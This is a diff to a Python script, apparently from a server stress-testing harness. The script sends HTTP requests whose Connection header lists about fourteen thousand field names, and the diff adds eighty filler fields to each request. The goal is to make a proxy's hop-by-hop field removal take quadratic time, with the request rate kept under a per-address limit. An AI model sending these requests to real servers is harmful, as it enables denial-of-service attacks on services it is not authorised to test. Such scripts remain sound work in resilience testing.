@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""Requests whose `Connection` field names fourteen thousand fields to be removed, in 28 KB.
+"""Requests whose `Connection` field names fourteen thousand fields to be removed, in 28 KB, beside eighty other fields.
 
 RFC 9110 section 7.6.1 makes a proxy remove every field that `Connection` names; looking each name up in every field, list
 after list, costs time with the product of both. The attacker sends at most 40 such heads a second.
@@ -13,7 +13,7 @@ from lib.attack import Attack, main
 from lib.person import PREFIX
 from lib.swarm import Plan
 
-LIST_BYTES = 28_000
+LIST_BYTES, OTHER_FIELDS = 28_000, 80
 HEADS_PER_SECOND_MAX, HEADS_MAX = 40, 900  # an address may make 1,000 requests in 15 minutes
 
 
@@ -22,8 +22,10 @@ def long_list(name):
 
 
 def plans(port):
-    lists = [long_list(name) for name in ("a,", "ab, ", ",", "x-forwarded-for,")]
-    heads = [f"GET {PREFIX}/auth/profile HTTP/1.1\r\nHost: a\r\nConnection: {one}close\r\n\r\n".encode() for one in lists]
+    lists = [long_list(name) for name in ("a,", "b00,", ", ", "x-forwarded-for,")]
+    others = "".join(f"a{number:02}: b\r\n" for number in range(OTHER_FIELDS))
+    heads = [f"GET {PREFIX}/auth/profile HTTP/1.1\r\nHost: a\r\n{others}Connection: {one}close\r\n\r\n".encode()
+             for one in lists]
     # Whether or not the server closes, each is over after a second, so that the rate is kept.
     return [Plan(port, head, reset_after=1.0) for head in heads] * (HEADS_PER_SECOND_MAX // 4)
 
